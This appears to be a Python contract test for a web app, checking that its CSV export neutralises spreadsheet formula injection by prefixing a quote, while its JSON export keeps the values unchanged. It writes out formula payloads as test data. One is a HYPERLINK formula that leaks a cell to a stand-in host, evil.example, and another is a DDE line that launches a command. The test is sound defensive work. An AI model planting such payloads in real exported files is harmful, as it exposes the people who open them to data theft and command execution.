"""Issue #16 finding 9: the CSV export does not carry spreadsheet formulas.

A worker's content, an admin's refusal reason and a username that start with = + - @, TAB or
CR are exported in CSV with a leading ' (OWASP "CSV Injection"), so a spreadsheet opening the
file shows them as text; the JSON export carries them exactly as stored.
"""

from __future__ import annotations

import csv
import io
import uuid

from tests.contract.helpers import PASSWORD, Users
from tests.support import Api

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


async def test_csv_export_quotes_formulas_and_json_keeps_them(
    api: Api, users: Users, scan_id: str
) -> None:
    """Every formula a user sent comes back in the CSV behind a ' and unchanged in JSON."""
    name = f"-w-{uuid.uuid4().hex[:12]}"
    worker = await api.post("/api/auth/register", {"username": name, "password": PASSWORD})
    assert worker.status == 201, worker.text
    token = worker.body["token"]
    sent: dict[str, str] = {}
    for formula in FORMULAS:
        made = await api.post(f"/api/scans/{scan_id}/tasks", {"content": formula}, token=token)
        assert made.status == 201, made.text
        task_id = made.body["task"]["id"]
        decided = await api.post(
            f"/api/tasks/{task_id}/decision",
            {"decision": "refused", "reason": formula},
            token=users.admin.token,
        )
        assert decided.status == 200, decided.text
        sent[task_id] = formula
    exported = await api.get(
        f"/api/scans/{scan_id}/export", token=users.admin.token, params={"format": "csv"}
    )
    assert exported.status == 200
    rows = list(csv.DictReader(io.StringIO(exported.text, newline="")))
    assert {r["id"]: (r["content"], r["reason"], r["worker_username"]) for r in rows} == {
        task_id: ("'" + formula, "'" + formula, "'" + name) for task_id, formula in sent.items()
    }
    as_json = await api.get(
        f"/api/scans/{scan_id}/export", token=users.admin.token, params={"format": "json"}
    )
    assert {
        t["id"]: (t["content"], t["reason"], t["worker_username"]) for t in as_json.body["tasks"]
    } == {task_id: (formula, formula, name) for task_id, formula in sent.items()}
